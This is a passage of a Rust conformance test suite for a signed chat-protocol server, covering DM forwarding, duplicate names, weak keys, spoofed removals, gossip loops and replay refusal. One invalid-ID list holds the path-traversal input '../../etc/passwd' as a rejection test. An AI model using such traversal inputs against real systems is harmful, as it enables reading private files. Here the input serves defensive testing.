//! socp-1.3.md §4 conformance cases 8–18, 21 and 22 against the real `Server`.
//!
//! Mesh behaviour (gossip, forwarding across servers, bootstrap through the list)
//! runs in the deterministic simulator; everything that needs an exact frame count,
//! an exact error code or an exact timer is checked by driving one `Server` directly
//! with hand-built, really signed frames ([`Node`] below). Peers are played by the
//! fixture keys: the server under test is key 1, peer servers P/Q/R keys 2/3/4,
//! users ALICE/BOB/CAROL/DAVE keys 5/6/7/8, an imposter key 9.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use core::time::Duration;
use std::cell::RefCell;
use std::rc::Rc;

use serde_json::{Map, Value, json};
use socp_core::crypto::content_sig::{self, DmFields, SigLayout};
use socp_core::crypto::rsa::RsaPublic;
use socp_core::crypto::{fixtures, rng_from_seed};
use socp_core::server::{
    Action, BootstrapEntry, Connection, Event, LinkId, Location, Server, ServerConfig, StoreOp,
    StoredState,
};
use socp_core::sim::{Endpoint, InFlight, SIM_HOST, Sim, Verdict, port_of};
use socp_core::time::{Instant, Now};
use socp_core::wire::messages::{
    Ack, Command, CommandResponse, ListRequest, ListResponse, MsgDirect, ServerDeliver,
    ServerHelloJoin, ServerHelloLink, UserAdvertise, UserDeliver, UserHello, UserRemove,
};
use socp_core::wire::{Envelope, ErrorCode, Limits, MsgType, b64, is_uuid_v4};

// ------------------------------------------------------------------------ fixtures

const T0: u64 = 1_760_000_000_000;

/// The server under test (key 1).
const SUT: &str = "11111111-1111-4111-8111-111111111111";
/// Peer servers (keys 2, 3, 4).
const P: &str = "22222222-2222-4222-8222-222222222222";
const Q: &str = "33333333-3333-4333-8333-333333333333";
const R: &str = "44444444-4444-4444-8444-444444444444";
/// Users (keys 5, 6, 7, 8).
const ALICE: &str = "aaaaaaaa-aaaa-4aaa-8aaa-aaaaaaaaaaaa";
const BOB: &str = "bbbbbbbb-bbbb-4bbb-8bbb-bbbbbbbbbbbb";
const CAROL: &str = "cccccccc-cccc-4ccc-8ccc-cccccccccccc";
const DAVE: &str = "dddddddd-dddd-4ddd-8ddd-dddddddddddd";
/// Someone holding key 9 and claiming other ids.
const IMPOSTER_KEY: usize = 9;

fn key_wire(k: usize) -> String {
    fixtures::rsa_identity_ref(k).public().to_wire()
}

/// The b64url(DER) of a weak key from the interop vectors (refused everywhere).
fn weak_key_wire(name: &str) -> String {
    let v: Value =
        serde_json::from_str(include_str!("../../fixtures/vectors/rsa-interop.json")).unwrap();
    v["public_keys"][name]["der_b64url"]
        .as_str()
        .unwrap()
        .to_owned()
}

fn weak_keys() -> Vec<(&'static str, String)> {
    fixtures::WEAK_KEY_NAMES
        .iter()
        .map(|n| (*n, weak_key_wire(n)))
        .collect()
}

/// Signs `env`'s payload with fixture key `key` (PSS-SHA256 over the canonical payload).
fn signed(key: usize, mut env: Envelope) -> Envelope {
    let mut rng = rng_from_seed([u8::try_from(key).unwrap(); 32]);
    let sig = fixtures::rsa_identity_ref(key)
        .sign_pss(&mut rng, &env.signing_bytes())
        .unwrap();
    env.sig = Some(b64::encode(&sig));
    env
}

/// Whether `env`'s transport sig verifies under fixture key `key`.
fn verifies(env: &Envelope, key: usize) -> bool {
    env.sig
        .as_deref()
        .and_then(|s| b64::decode(s).ok())
        .is_some_and(|sig| {
            fixtures::rsa_identity_ref(key)
                .public()
                .verify_pss(&env.signing_bytes(), &sig)
                .is_ok()
        })
}

/// An envelope with a hand-written payload (exact keys, nothing added).
fn raw(t: &str, from: &str, to: &str, ts: u64, payload: Value) -> Envelope {
    let Value::Object(payload) = payload else {
        panic!("payload must be an object")
    };
    Envelope {
        msg_type: MsgType::parse(t),
        from: from.to_owned(),
        to: to.to_owned(),
        ts,
        payload,
        sig: None,
    }
}

fn user_hello(id: &str, pubkey: &str, ts: u64) -> Envelope {
    Envelope::new(
        id,
        SUT,
        ts,
        UserHello {
            client: Some("cli-v1".into()),
            pubkey: pubkey.to_owned(),
            enc_pubkey: Some(pubkey.to_owned()),
            caps: Vec::new(),
        },
    )
}

fn advert(origin: &str, user: &str, user_key: usize, ts: u64) -> Envelope {
    Envelope::new(
        origin,
        "*",
        ts,
        UserAdvertise {
            user_id: user.to_owned(),
            server_id: origin.to_owned(),
            meta: Some(Map::new()),
            pubkey: Some(key_wire(user_key)),
        },
    )
}

fn remove(from: &str, user: &str, home: &str, ts: u64) -> Envelope {
    Envelope::new(
        from,
        "*",
        ts,
        UserRemove {
            user_id: user.to_owned(),
            server_id: home.to_owned(),
        },
    )
}

fn dm(from: &str, to: &str, ts: u64, ciphertext: &str) -> Envelope {
    Envelope::new(
        from,
        to,
        ts,
        MsgDirect {
            ciphertext: ciphertext.to_owned(),
            sender_pub: Some(key_wire(5)),
            content_sig: Some("opaque-content-sig".into()),
        },
    )
}

fn server_deliver(
    from: &str,
    user: &str,
    ts: u64,
    ciphertext: &str,
    orig_ts: Option<u64>,
) -> Envelope {
    Envelope::new(
        from,
        SUT,
        ts,
        ServerDeliver {
            user_id: user.to_owned(),
            ciphertext: ciphertext.to_owned(),
            sender: CAROL.to_owned(),
            sender_pub: key_wire(7),
            content_sig: "opaque-content-sig".into(),
            orig_ts,
        },
    )
}

/// 512 bytes that are not a ciphertext for anyone, as base64url.
fn opaque_ciphertext(seed: u8) -> String {
    let bytes: Vec<u8> = (0..512u32)
        .map(|i| u8::try_from((i * 31 + u32::from(seed) * 7) % 251).unwrap())
        .collect();
    b64::encode(&bytes)
}

fn payload_str<'a>(env: &'a Envelope, field: &str) -> &'a str {
    env.payload
        .get(field)
        .and_then(Value::as_str)
        .unwrap_or_else(|| panic!("{} has no string {field}", env.msg_type.as_str()))
}

fn error_code(env: &Envelope) -> String {
    assert_eq!(env.msg_type, MsgType::Error);
    payload_str(env, "code").to_owned()
}

// -------------------------------------------------------------- a directly driven server

/// A frame the server sent, when and where.
#[derive(Debug, Clone)]
struct Sent {
    at: Instant,
    link: LinkId,
    env: Envelope,
    raw: Vec<u8>,
}

/// One `Server` driven by hand on a virtual clock, with every output recorded.
///
/// Every drain checks two invariants that hold for any input: each frame sent is one
/// canonical JSON object with no trailing newline (§1.4), and the only actions are
/// Dial, Close and Store (the server touches no file, shell or path: case 22).
struct Node {
    server: Server,
    now: Now,
    out: Vec<Sent>,
    actions: Vec<(Instant, Action)>,
    events: Vec<Event>,
}

fn sut_cfg() -> ServerConfig {
    let mut cfg = ServerConfig::default();
    cfg.requested_id = Some(SUT.into());
    cfg.host = "sut.test".into();
    cfg.port = 9001;
    cfg
}

impl Node {
    fn new(cfg: ServerConfig, key: usize) -> Self {
        let now = Now::new(Instant::ZERO, T0);
        let server = Server::new(
            cfg,
            fixtures::rsa_identity(key),
            [0x42; 32],
            StoredState::default(),
            now,
        );
        let mut node = Self {
            server,
            now,
            out: Vec::new(),
            actions: Vec::new(),
            events: Vec::new(),
        };
        node.drain();
        node
    }

    fn sut() -> Self {
        let node = Self::new(sut_cfg(), 1);
        assert_eq!(node.server.id(), SUT);
        node
    }

    fn ts(&self) -> u64 {
        self.now.unix_ms
    }

    fn drain(&mut self) {
        while let Some(tx) = self.server.poll_transmit() {
            let frame = tx.frame.to_vec();
            assert!(!frame.ends_with(b"\n"), "frames are sent without a newline");
            let env = Envelope::decode(&frame, &Limits::default()).expect("server sent bad JSON");
            assert_eq!(env.encode(), frame, "server frames are canonical JSON");
            self.out.push(Sent {
                at: self.now.mono,
                link: tx.link,
                env,
                raw: frame,
            });
        }
        while let Some(action) = self.server.poll_action() {
            assert!(
                matches!(
                    action,
                    Action::Dial { .. } | Action::Close { .. } | Action::Store(_)
                ),
                "unexpected action {action:?}"
            );
            self.actions.push((self.now.mono, action));
        }
        while let Some(event) = self.server.poll_event() {
            self.events.push(event);
        }
    }

    fn connect(&mut self) -> LinkId {
        let link = self.server.handle_connected(
            self.now,
            Connection::Inbound {
                remote: "198.51.100.7:40000".into(),
            },
        );
        self.drain();
        link
    }

    fn recv(&mut self, link: LinkId, frame: &[u8]) {
        self.server.handle_frame(self.now, link, frame);
        self.drain();
    }

    fn send(&mut self, link: LinkId, env: &Envelope) {
        self.recv(link, &env.encode());
    }

    fn closed(&mut self, link: LinkId) {
        self.server.handle_closed(self.now, link);
        self.drain();
    }

    fn set_time(&mut self, t: Instant) {
        if t > self.now.mono {
            self.now = Now::new(t, T0 + t.as_micros() / 1000);
        }
    }

    /// Runs the server's timers up to `until`, each at its exact time.
    fn run_until(&mut self, until: Instant) {
        for _ in 0..100_000 {
            match self.server.poll_timeout() {
                Some(t) if t <= until => {
                    self.set_time(t);
                    self.server.handle_timeout(self.now);
                    self.drain();
                }
                _ => {
                    self.set_time(until);
                    return;
                }
            }
        }
        panic!("poll_timeout never moved past {:?}", self.now.mono);
    }

    fn run_for(&mut self, d: Duration) {
        let until = self.now.mono + d;
        self.run_until(until);
    }

    /// Removes and returns what was sent on `link`.
    fn take(&mut self, link: LinkId) -> Vec<Sent> {
        let (mine, rest) = std::mem::take(&mut self.out)
            .into_iter()
            .partition(|s| s.link == link);
        self.out = rest;
        mine
    }

    /// Removes and returns the frames of type `t` sent on `link`.
    fn take_type(&mut self, link: LinkId, t: &MsgType) -> Vec<Envelope> {
        self.take(link)
            .into_iter()
            .filter(|s| s.env.msg_type == *t)
            .map(|s| s.env)
            .collect()
    }

    /// Removes and returns the ERROR codes sent on `link`.
    fn take_errors(&mut self, link: LinkId) -> Vec<String> {
        self.take_type(link, &MsgType::Error)
            .iter()
            .map(error_code)
            .collect()
    }

    fn clear(&mut self) {
        self.out.clear();
    }

    fn close_codes(&self, link: LinkId) -> Vec<u16> {
        self.actions
            .iter()
            .filter_map(|(_, a)| match a {
                Action::Close { link: l, code, .. } if *l == link => Some(*code),
                _ => None,
            })
            .collect()
    }

    fn dials(&self) -> Vec<(Instant, LinkId, String, u16)> {
        self.actions
            .iter()
            .filter_map(|(t, a)| match a {
                Action::Dial { link, host, port } => Some((*t, *link, host.clone(), *port)),
                _ => None,
            })
            .collect()
    }

    fn rejected_since(&self, mark: usize) -> Vec<(LinkId, ErrorCode)> {
        self.events[mark..]
            .iter()
            .filter_map(|e| match e {
                Event::Rejected { link, code, .. } => Some((*link, code.clone())),
                _ => None,
            })
            .collect()
    }

    fn duplicates_since(&self, mark: usize) -> usize {
        self.events[mark..]
            .iter()
            .filter(|e| matches!(e, Event::Duplicate { .. }))
            .count()
    }

    /// A user connects and says hello with fixture key `key`; must be accepted.
    fn user(&mut self, id: &str, key: usize) -> LinkId {
        let link = self.connect();
        let hello = user_hello(id, &key_wire(key), self.ts());
        self.send(link, &hello);
        assert_eq!(
            self.server.location(id),
            Some(&Location::Local),
            "{id} accepted"
        );
        link
    }

    /// A peer server links in with SERVER_HELLO_LINK (signed with `key`).
    fn peer(&mut self, id: &str, key: usize) -> LinkId {
        let link = self.connect();
        let hello = Envelope::new(
            id,
            SUT,
            self.ts(),
            ServerHelloLink {
                host: format!("peer{key}.test"),
                port: peer_port(key),
                pubkey: key_wire(key),
                caps: Vec::new(),
            },
        );
        self.send(link, &signed(key, hello));
        assert!(
            self.server.linked_servers().contains(&id.to_owned()),
            "{id} linked"
        );
        link
    }

    /// Peer `origin` (key `origin_key`) advertises `user` (key `user_key`) on `link`.
    fn advertise(
        &mut self,
        link: LinkId,
        origin: &str,
        origin_key: usize,
        user: &str,
        user_key: usize,
    ) {
        let ad = signed(origin_key, advert(origin, user, user_key, self.ts()));
        self.send(link, &ad);
        assert_eq!(
            self.server.location(user),
            Some(&Location::Server(origin.to_owned()))
        );
    }

    /// LIST_REQUEST from the user on `link`: the `online_users` of the LIST_RESPONSE.
    fn list(&mut self, link: LinkId, user: &str) -> Vec<String> {
        self.clear();
        let req = Envelope::new(user, SUT, self.ts(), ListRequest {});
        self.send(link, &req);
        let resp = self.take_type(link, &MsgType::ListResponse);
        assert_eq!(resp.len(), 1, "one LIST_RESPONSE");
        assert_eq!(resp[0].from, SUT);
        assert_eq!(resp[0].to, user);
        assert!(verifies(&resp[0], 1));
        resp[0]
            .decode_payload::<ListResponse>()
            .unwrap()
            .online_users
    }
}

fn peer_port(key: usize) -> u16 {
    9000 + u16::try_from(key).unwrap()
}

fn ids(list: &[&str]) -> Vec<String> {
    let mut v: Vec<String> = list.iter().map(|s| (*s).to_owned()).collect();
    v.sort();
    v
}

// ------------------------------------------------------------------------- simulator

/// A full mesh of `n` servers (keys 1..=n) built through server 0 as introducer.
fn mesh(seed: u64, n: usize) -> (Sim, Vec<usize>) {
    let mut sim = Sim::legacy(seed);
    let intro = sim.add_server(ServerConfig::default(), 1);
    let cfg = sim.config_joining(&[intro]);
    let mut servers = vec![intro];
    for k in 2..=n {
        servers.push(sim.add_server(cfg.clone(), k));
        sim.run_for(Duration::from_secs(2));
    }
    for &s in &servers {
        assert_eq!(sim.server(s).linked_servers().len(), n - 1, "full mesh");
    }
    (sim, servers)
}

/// A frame seen in flight by the hook.
#[derive(Debug, Clone)]
struct Flight {
    from: Endpoint,
    to: Endpoint,
    env: Envelope,
}

type Log = Rc<RefCell<Vec<Flight>>>;

fn server_of(e: Endpoint) -> Option<usize> {
    match e {
        Endpoint::Server { idx, .. } => Some(idx),
        Endpoint::User { .. } => None,
    }
}

/// Records every frame of type `t`; `verdict` decides its fate.
fn record(sim: &mut Sim, t: MsgType, mut verdict: impl FnMut(&Flight) -> Verdict + 'static) -> Log {
    let log: Log = Rc::default();
    let sink = Rc::clone(&log);
    sim.set_hook(Box::new(move |f: &mut InFlight| {
        let Ok(env) = Envelope::decode(&f.frame, &Limits::default()) else {
            return Verdict::Deliver;
        };
        if env.msg_type != t {
            return Verdict::Deliver;
        }
        let flight = Flight {
            from: f.from,
            to: f.to,
            env,
        };
        let v = verdict(&flight);
        sink.borrow_mut().push(flight);
        v
    }));
    log
}

fn sim_events_since(sim: &Sim, mark: usize, server: usize) -> Vec<Event> {
    sim.events()[mark..]
        .iter()
        .filter(|(_, s, _)| *s == server)
        .map(|(_, _, e)| e.clone())
        .collect()
}

fn online_events(events: &[Event], user: &str) -> usize {
    events
        .iter()
        .filter(|e| matches!(e, Event::UserOnline { user_id, .. } if user_id == user))
        .count()
}

fn duplicate_events(events: &[Event]) -> usize {
    events
        .iter()
        .filter(|e| matches!(e, Event::Duplicate { .. }))
        .count()
}

// ------------------------------------------------------------------ case 8: ts handling

#[test]
fn case_08_a_dm_through_server_deliver_keeps_ts_and_sender_and_verifies_end_to_end() {
    let (mut sim, s) = mesh(8, 3);
    let (a, b) = (s[1], s[2]);
    let alice = sim.add_user(5);
    let bob = sim.add_user(6);
    sim.connect_user(alice, a);
    sim.connect_user(bob, b);
    sim.run_for(Duration::from_secs(1));
    let (alice_id, bob_id) = (sim.user(alice).id.clone(), sim.user(bob).id.clone());
    let hops = record(&mut sim, MsgType::ServerDeliver, |_| Verdict::Deliver);

    // A real DM: OAEP under Bob's key, content_sig by Alice (layout A). Its ts is 3 s
    // old when sent, so a server that re-stamped it would be caught.
    let mut rng = rng_from_seed([8; 32]);
    let ts = sim.now().unix_ms - 3_000;
    let ct = b64::encode(
        &fixtures::rsa_identity_ref(6)
            .public()
            .encrypt_oaep(&mut rng, b"hello bob")
            .unwrap(),
    );
    let fields = DmFields {
        ciphertext: &ct,
        from: &alice_id,
        to: &bob_id,
        ts,
    };
    let sig = content_sig::sign_dm(
        fixtures::rsa_identity_ref(5),
        &mut rng,
        &fields,
        SigLayout::A,
    )
    .unwrap();
    let msg = Envelope::new(
        alice_id.as_str(),
        bob_id.as_str(),
        ts,
        MsgDirect {
            ciphertext: ct.clone(),
            sender_pub: Some(key_wire(5)),
            content_sig: Some(sig.clone()),
        },
    );
    sim.user_send(alice, msg.encode());
    sim.run_for(Duration::from_secs(1));

    // Exactly one hop a → b, carrying the original ts in the envelope and as orig_ts.
    let hops = hops.borrow();
    assert_eq!(hops.len(), 1);
    assert_eq!(server_of(hops[0].from), Some(a));
    assert_eq!(server_of(hops[0].to), Some(b));
    let hop = &hops[0].env;
    assert_eq!(hop.from, sim.server(a).id());
    assert_eq!(hop.to, sim.server(b).id());
    assert_eq!(hop.ts, ts);
    let sd: ServerDeliver = hop.decode_payload().unwrap();
    assert_eq!(
        (sd.orig_ts, sd.sender.as_str(), sd.user_id.as_str()),
        (Some(ts), alice_id.as_str(), bob_id.as_str())
    );
    assert_eq!(
        (sd.ciphertext.as_str(), sd.content_sig.as_str()),
        (ct.as_str(), sig.as_str())
    );
    assert!(verifies(hop, 2), "re-signed by server a (key 2)");

    // Bob's USER_DELIVER: from his server, original ts in the envelope and the payload.
    let delivered: Vec<&Envelope> = sim.user(bob).received(&MsgType::UserDeliver).collect();
    assert_eq!(delivered.len(), 1);
    let d = delivered[0];
    assert_eq!(d.from, sim.server(b).id());
    assert_eq!(d.to, bob_id);
    assert_eq!(d.ts, ts);
    assert!(verifies(d, 3), "signed by server b (key 3)");
    let p: UserDeliver = d.decode_payload().unwrap();
    assert_eq!(p.orig_ts, Some(ts));
    assert_eq!(p.sender, alice_id);
    assert_eq!(p.ciphertext, ct);

    // The client verifies with (payload.sender, its own id, envelope ts) and decrypts.
    let (sender_pub, _) = RsaPublic::from_wire(&p.sender_pub).unwrap();
    assert_eq!(&sender_pub, fixtures::rsa_identity_ref(5).public());
    let as_client = DmFields {
        ciphertext: &p.ciphertext,
        from: &p.sender,
        to: &bob_id,
        ts: d.ts,
    };
    assert_eq!(
        content_sig::verify_dm(&sender_pub, &p.content_sig, &as_client),
        Ok(SigLayout::A)
    );
    // The envelope `from` (the server) or the delivery time would not verify.
    let wrong_from = DmFields {
        from: &d.from,
        ..as_client
    };
    assert!(content_sig::verify_dm(&sender_pub, &p.content_sig, &wrong_from).is_err());
    let wrong_ts = DmFields {
        ts: ts + 3_000,
        ..as_client
    };
    assert!(content_sig::verify_dm(&sender_pub, &p.content_sig, &wrong_ts).is_err());
    let plain = fixtures::rsa_identity_ref(6)
        .decrypt_oaep(&mut rng, &b64::decode(&p.ciphertext).unwrap())
        .unwrap();
    assert_eq!(&plain[..], b"hello bob");
    assert_eq!(sim.user(alice).received(&MsgType::UserDeliver).count(), 0);

    drop(hops);
    // No socp `msg_id`: no ACK (other clients never see one they did not ask for).
    assert_eq!(sim.user(alice).received(&MsgType::Ack).count(), 0);
    // With one, the home server acknowledges the piece it passed on.
    let mut with_id = msg.clone();
    with_id.ts = sim.now().unix_ms;
    let msg_id = "00112233445566778899aabbccddeeff";
    with_id
        .payload
        .insert("msg_id".into(), serde_json::Value::from(msg_id));
    with_id
        .payload
        .insert("part".into(), serde_json::Value::from(0));
    sim.user_send(alice, with_id.encode());
    sim.run_for(Duration::from_secs(1));
    let acks: Vec<Ack> = sim
        .user(alice)
        .received(&MsgType::Ack)
        .map(|e| e.decode_payload().unwrap())
        .collect();
    assert_eq!(
        acks,
        vec![Ack {
            msg_ref: format!("{bob_id}/{msg_id}/0")
        }]
    );
}

// ------------------------------------------------------------------- case 9: USER_HELLO

#[test]
fn case_09_duplicate_local_user_gets_name_in_use_and_the_first_session_survives() {
    let mut n = Node::sut();
    let p = n.peer(P, 2);
    let first = n.user(ALICE, 5);
    assert_eq!(n.take_type(p, &MsgType::UserAdvertise).len(), 1);
    n.clear();

    // Same id, same key (a second client) and same id, another key: both refused.
    for key in [5, 7] {
        let second = n.connect();
        let mark = n.events.len();
        n.send(second, &user_hello(ALICE, &key_wire(key), n.ts()));
        assert_eq!(n.take_errors(second), ["NAME_IN_USE"], "key {key}");
        assert_eq!(n.close_codes(second), [1008]);
        assert!(n.close_codes(first).is_empty());
        assert!(n.out.is_empty(), "nothing else sent: {:?}", n.out);
        assert!(
            !n.events[mark..]
                .iter()
                .any(|e| matches!(e, Event::UserOffline { .. }))
        );
        // The adapter reports the refused link closed: the first session is untouched.
        n.closed(second);
        assert!(n.out.is_empty(), "no USER_REMOVE for the surviving user");
    }
    assert_eq!(n.server.local_users(), [ALICE]);
    assert_eq!(n.server.location(ALICE), Some(&Location::Local));

    // The first session still receives a DM.
    let bob = n.user(BOB, 6);
    n.clear();
    let ct = opaque_ciphertext(9);
    n.send(bob, &dm(BOB, ALICE, n.ts(), &ct));
    let got = n.take_type(first, &MsgType::UserDeliver);
    assert_eq!(got.len(), 1);
    assert_eq!(payload_str(&got[0], "ciphertext"), ct);
    assert!(n.out.is_empty());
}

#[test]
fn case_09_in_the_mesh_the_duplicate_client_is_told_name_in_use_and_the_first_keeps_working() {
    let (mut sim, s) = mesh(91, 2);
    let first = sim.add_user(5);
    let second = sim.add_user(5);
    let sender = sim.add_user(6);
    let id = sim.user(first).id.clone();
    sim.user_mut(second).id.clone_from(&id);
    sim.connect_user(first, s[0]);
    sim.connect_user(sender, s[1]);
    sim.run_for(Duration::from_secs(1));
    sim.connect_user(second, s[0]);
    sim.run_for(Duration::from_secs(1));
    // The refusal reaches the client before its link is closed.
    assert_eq!(sim.user(second).error_codes(), ["NAME_IN_USE"]);
    assert!(!sim.user(second).is_connected());
    assert!(sim.user(first).is_connected());
    let tag = sim.send_dm(sender, first);
    sim.run_for(Duration::from_secs(1));
    assert_eq!(sim.user(first).deliveries_of(&tag), 1);
    assert_eq!(
        sim.server(s[1]).location(&id),
        Some(&Location::Server(sim.server(s[0]).id().into()))
    );
}

#[test]
fn case_09_non_uuid_v4_ids_are_rejected_with_bad_key() {
    let mut n = Node::sut();
    let p = n.peer(P, 2);
    n.clear();
    for id in [
        "Alice",
        "",
        "6ba7b810-9dad-11d1-80b4-00c04fd430c8", // UUID v1
        "00000000-0000-0000-0000-000000000000", // nil
        "aaaaaaaa-aaaa-4aaa-caaa-aaaaaaaaaaaa", // v4 nibble, wrong variant
        "aaaaaaaaaaaa4aaa8aaaaaaaaaaaaaaa",     // no hyphens
        "../../etc/passwd",
    ] {
        let link = n.connect();
        n.send(link, &user_hello(id, &key_wire(5), n.ts()));
        assert_eq!(n.take_errors(link), ["BAD_KEY"], "{id:?}");
        assert_eq!(n.close_codes(link), [1008], "{id:?}");
        assert!(n.take(p).is_empty(), "{id:?} is not advertised");
        assert!(n.server.online_users().is_empty());
    }
}

#[test]
fn case_09_weak_or_malformed_user_keys_are_rejected_with_bad_key() {
    let mut n = Node::sut();
    let p = n.peer(P, 2);
    n.clear();
    let mut keys = weak_keys();
    keys.push(("garbage", "not-a-key".into()));
    keys.push(("empty", String::new()));
    // The 1024-bit key as PEM text, too: the encoding does not matter.
    let v: Value =
        serde_json::from_str(include_str!("../../fixtures/vectors/rsa-interop.json")).unwrap();
    keys.push((
        "rsa1024 pem",
        v["public_keys"]["rsa1024"]["pem_text"]
            .as_str()
            .unwrap()
            .to_owned(),
    ));
    for (name, key) in keys {
        let link = n.connect();
        n.send(link, &user_hello(ALICE, &key, n.ts()));
        assert_eq!(n.take_errors(link), ["BAD_KEY"], "{name}");
        assert_eq!(n.close_codes(link), [1008], "{name}");
        assert!(n.take(p).is_empty(), "{name}: nothing advertised");
        assert!(n.server.online_users().is_empty());
        assert!(
            !n.actions
                .iter()
                .any(|(_, a)| matches!(a, Action::Store(StoreOp::User { .. }))),
            "{name}: no user stored"
        );
    }
    // The same id with a good key is then accepted.
    n.user(ALICE, 5);
}

#[test]
fn case_09_an_accepted_hello_sends_exactly_one_user_advertise_per_linked_server() {
    let (mut sim, s) = mesh(9, 4);
    let log = record(&mut sim, MsgType::UserAdvertise, |_| Verdict::Deliver);
    let alice = sim.add_user(5);
    sim.connect_user(alice, s[1]);
    // Long enough for heartbeats, channel batching and any re-advertising.
    sim.run_for(Duration::from_secs(40));
    let id = sim.user(alice).id.clone();
    let log = log.borrow();
    for &other in s.iter().filter(|&&x| x != s[1]) {
        let from_home = log
            .iter()
            .filter(|f| {
                server_of(f.from) == Some(s[1])
                    && server_of(f.to) == Some(other)
                    && payload_str(&f.env, "user_id") == id
            })
            .count();
        assert_eq!(
            from_home, 1,
            "one USER_ADVERTISE from the home server to {other}"
        );
    }
    let first = log
        .iter()
        .find(|f| server_of(f.from) == Some(s[1]))
        .unwrap();
    assert_eq!(first.env.from, sim.server(s[1]).id());
    assert_eq!(first.env.to, "*");
    assert_eq!(payload_str(&first.env, "server_id"), sim.server(s[1]).id());
    assert_eq!(payload_str(&first.env, "pubkey"), key_wire(5));
    assert!(verifies(&first.env, 2));
    for &x in &s {
        assert!(sim.server(x).online_users().contains(&id));
    }
}

// ------------------------------------------------------------- case 10: USER_REMOVE guard

#[test]
fn case_10_user_remove_from_a_non_home_server_changes_nothing_and_is_still_forwarded() {
    let mut n = Node::sut();
    let p = n.peer(P, 2);
    let q = n.peer(Q, 3);
    let r = n.peer(R, 4);
    let bob = n.user(BOB, 6);
    n.advertise(p, P, 2, CAROL, 7);
    n.clear();

    // Q says CAROL left Q (she is on P), then Q claims she left P: both not honoured.
    for named in [Q, P] {
        let mark = n.events.len();
        let rm = signed(3, remove(Q, CAROL, named, n.ts()));
        n.send(q, &rm);
        assert_eq!(
            n.server.location(CAROL),
            Some(&Location::Server(P.into())),
            "{named}"
        );
        assert!(
            n.events[mark..]
                .iter()
                .all(|e| !matches!(e, Event::UserOffline { .. }))
        );
        assert!(n.rejected_since(mark).is_empty());
        for link in [p, r] {
            let fwd = n.take(link);
            assert_eq!(fwd.len(), 1, "forwarded once to each other server");
            assert_eq!(fwd[0].raw, rm.encode(), "forwarded unchanged");
        }
        assert!(n.take(q).is_empty(), "not echoed to its sender");
        assert!(n.take(bob).is_empty(), "local users are not told");
        assert_eq!(n.list(bob, BOB), ids(&[BOB, CAROL]));
    }

    // The home server's REMOVE is honoured, forwarded and told to local users.
    let rm = signed(2, remove(P, CAROL, P, n.ts()));
    n.send(p, &rm);
    assert_eq!(n.server.location(CAROL), None);
    for link in [q, r, bob] {
        let fwd = n.take(link);
        assert_eq!(fwd.len(), 1);
        assert_eq!(fwd[0].raw, rm.encode());
    }
    assert!(n.take(p).is_empty());
    assert_eq!(n.list(bob, BOB), [BOB]);
}

// ------------------------------------------------------------------- case 11: gossip loop

#[test]
fn case_11_one_advert_in_a_triangle_is_processed_once_per_server() {
    let (mut sim, s) = mesh(11, 3);
    // An observer user on every server.
    let observers: Vec<usize> = (0..3).map(|i| sim.add_user(6 + i)).collect();
    for (i, &u) in observers.iter().enumerate() {
        sim.connect_user(u, s[i]);
    }
    sim.run_for(Duration::from_secs(1));
    let mark = sim.events().len();
    let log = record(&mut sim, MsgType::UserAdvertise, |_| Verdict::Deliver);
    let carol = sim.add_user(5);
    sim.connect_user(carol, s[0]);
    sim.run_for(Duration::from_secs(2));
    let id = sim.user(carol).id.clone();

    let log = log.borrow();
    let hops: Vec<(usize, usize)> = log
        .iter()
        .filter(|f| payload_str(&f.env, "user_id") == id)
        .filter_map(|f| Some((server_of(f.from)?, server_of(f.to)?)))
        .collect();
    let count = |from: usize, to: usize| hops.iter().filter(|h| **h == (from, to)).count();
    // The origin sends once to each; each forwards once to the third; none comes back.
    assert_eq!(count(s[0], s[1]), 1);
    assert_eq!(count(s[0], s[2]), 1);
    assert_eq!(count(s[1], s[2]), 1);
    assert_eq!(count(s[2], s[1]), 1);
    assert_eq!(hops.len(), 4, "{hops:?}");
    for f in log.iter().filter(|f| payload_str(&f.env, "user_id") == id) {
        assert_eq!(f.env.from, sim.server(s[0]).id(), "forwarded unchanged");
    }

    for (i, &server) in s.iter().enumerate() {
        let events = sim_events_since(&sim, mark, server);
        assert_eq!(
            online_events(&events, &id),
            1,
            "server {i} processed it once"
        );
        let expected_dups = usize::from(i != 0);
        assert_eq!(duplicate_events(&events), expected_dups, "server {i}");
        // Each observer heard of Carol exactly once.
        let heard = sim
            .user(observers[i])
            .received(&MsgType::UserAdvertise)
            .filter(|e| payload_str(e, "user_id") == id)
            .count();
        assert_eq!(heard, 1, "observer on server {i}");
    }
}

// --------------------------------------------------------------------- case 12: replay

#[test]
fn case_12_server_deliver_replay_is_delivered_once_and_stale_ts_is_refused() {
    let mut n = Node::sut();
    let p = n.peer(P, 2);
    let bob = n.user(BOB, 6);
    n.clear();
    let delivered = |n: &mut Node| n.take_type(bob, &MsgType::UserDeliver);

    // The same signed SERVER_DELIVER twice: delivered once, the replay is a Duplicate.
    let ct = opaque_ciphertext(12);
    let first = signed(2, server_deliver(P, BOB, n.ts(), &ct, None));
    let mark = n.events.len();
    n.send(p, &first);
    n.send(p, &first);
    let got = delivered(&mut n);
    assert_eq!(got.len(), 1);
    assert_eq!(got[0].ts, first.ts);
    assert_eq!(n.duplicates_since(mark), 1);
    assert!(n.take(p).is_empty(), "nothing is sent back to the server");

    // The same payload (and so the same valid sig) with a new envelope ts: the spec's
    // weakness, it is a new frame as far as the seen key goes, and delivered again.
    n.run_for(Duration::from_secs(1));
    let mut again = first.clone();
    again.ts = n.ts();
    n.send(p, &again);
    let got = delivered(&mut n);
    assert_eq!(got.len(), 1);
    assert_eq!(got[0].ts, again.ts);

    // With the signed orig_ts in the payload, a new envelope ts does not make a new
    // DM: that replay is caught (and re-signing with a new orig_ts is a new DM).
    let ct = opaque_ciphertext(0x12);
    let orig = n.ts();
    let with_orig = signed(2, server_deliver(P, BOB, orig, &ct, Some(orig)));
    n.send(p, &with_orig);
    assert_eq!(delivered(&mut n).len(), 1);
    n.run_for(Duration::from_secs(1));
    let mark = n.events.len();
    let mut replayed = with_orig.clone();
    replayed.ts = n.ts();
    n.send(p, &replayed);
    assert!(delivered(&mut n).is_empty());
    assert_eq!(n.duplicates_since(mark), 1);
    let fresh = signed(2, server_deliver(P, BOB, n.ts(), &ct, Some(n.ts())));
    n.send(p, &fresh);
    assert_eq!(delivered(&mut n).len(), 1);

    // The freshness window is 120 s either way, inclusive.
    n.clear(); // (the batched PUBLIC_CHANNEL_ADD for Bob went to P meanwhile)
    let now = n.ts();
    for (offset, ok) in [
        (-120_001_i64, false),
